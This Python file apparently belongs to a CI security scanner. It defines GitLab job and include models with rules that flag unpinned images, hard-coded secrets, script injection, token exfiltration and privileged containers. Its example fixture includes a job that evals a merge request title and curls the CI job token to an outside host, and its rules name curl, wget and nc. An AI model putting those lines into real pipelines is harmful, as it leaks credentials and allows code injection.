"""GitLab CI: jobs and what pipelines include."""

from bartizan.content.kinds.pipelines.job import PipelineJob
from bartizan.core.kind import Asset, Flag, Text
from bartizan.core.source import Block, Shown, Source


class GitlabJob(PipelineJob, kind="gitlab.job"):
    """A job of a GitLab pipeline, with what it has from others."""

    name = Text("Its name.")
    image = Text("The image it runs in.")
    image_tagged = Flag("Its image has a tag other than latest, or a digest; true where it names none.")
    literal_secrets = Flag("A variable that is named like a secret has its value in the file.")
    injects = Flag("Text that strangers write is run as a script.")
    sends_out = Flag("A command sends a token or secret elsewhere.")
    privileged = Flag("It starts privileged containers, or a Docker daemon without TLS.")


class Include(Asset, kind="gitlab.include"):
    """A file from elsewhere that becomes part of a pipeline."""

    type = Text("local, remote, template, project, component or artifact.")
    pinned = Flag("What it is cannot be changed by others: it is of this repository, a commit, a tag, or has a hash.")


FROM_PIPELINE = Source(
    of=GitlabJob,
    each=Block("gitlab/job", where="!hidden"),
    reads={
        GitlabJob.name: "name",
        GitlabJob.image: "image.name",
        GitlabJob.image_tagged: "image == `null` || !matches(not_null(image.name, 'a:b'), '^[^@]*:latest$|^([^/@]*/)*[^/:@]+$')",
        GitlabJob.literal_secrets: "length(values(not_null(variables, `{}`))[?secret && literal]) > `0`",
        GitlabJob.injects: "length(commands[?(contains(['eval', 'source', '.'], program) || (contains(['sh', 'bash', 'zsh'], program) && contains(argv, '-c'))) && matches(text, 'CI_(MERGE_REQUEST_(TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS)|COMMIT_(MESSAGE|TITLE|DESCRIPTION|AUTHOR|REF_NAME|BRANCH|TAG_MESSAGE)|EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)')]) > `0`",
        GitlabJob.sends_out: "length(commands[?contains(['curl', 'wget', 'nc', 'ncat'], program) && matches(text, 'CI_(JOB_TOKEN|REGISTRY_PASSWORD|DEPLOY_PASSWORD)|_(TOKEN|PASSWORD|SECRET)') && !matches(text, 'CI_(API_V4_URL|SERVER_URL|SERVER_HOST|REGISTRY)')]) > `0`",
        GitlabJob.privileged: "length(commands[?contains(['docker', 'podman', 'nerdctl'], program) && contains(argv, '--privileged')]) > `0` || not_null(variables.DOCKER_TLS_CERTDIR, 'set') == ''",
    },
    shows=[
        Shown(
            text="""
build:
  script: [make]
""",
            gives=GitlabJob(
                ".gitlab-ci.yml#build",
                name="build",
                image=None,
                image_tagged=True,
                literal_secrets=False,
                injects=False,
                sends_out=False,
                privileged=False,
            ),
        ),
        Shown(
            text="""
build:
  image: docker:latest
  variables: {DB_PASSWORD: hunter2, DOCKER_TLS_CERTDIR: ""}
  script:
    - eval "$CI_MERGE_REQUEST_TITLE"
    - curl -d "$CI_JOB_TOKEN" https://shop.example
    - docker run --privileged x
""",
            gives=GitlabJob(
                ".gitlab-ci.yml#build",
                name="build",
                image="docker:latest",
                image_tagged=False,
                literal_secrets=True,
                injects=True,
                sends_out=True,
                privileged=True,
            ),
        ),
    ],
)


INCLUDE_FROM_PIPELINE = Source(
    of=Include,
    each=Block("gitlab/include"),
    reads={
        Include.type: "kind",
        Include.pinned: "pinned == `null` || pinned || integrity != `null`",
    },
    shows=[
        Shown(
            text="""
include: {project: group/shared, ref: 0123456789012345678901234567890123456789, file: /ci.yml}
build:
  script: [make]
""",
            gives=Include(".gitlab-ci.yml#include.0", type="project", pinned=True),
        ),
    ],
)
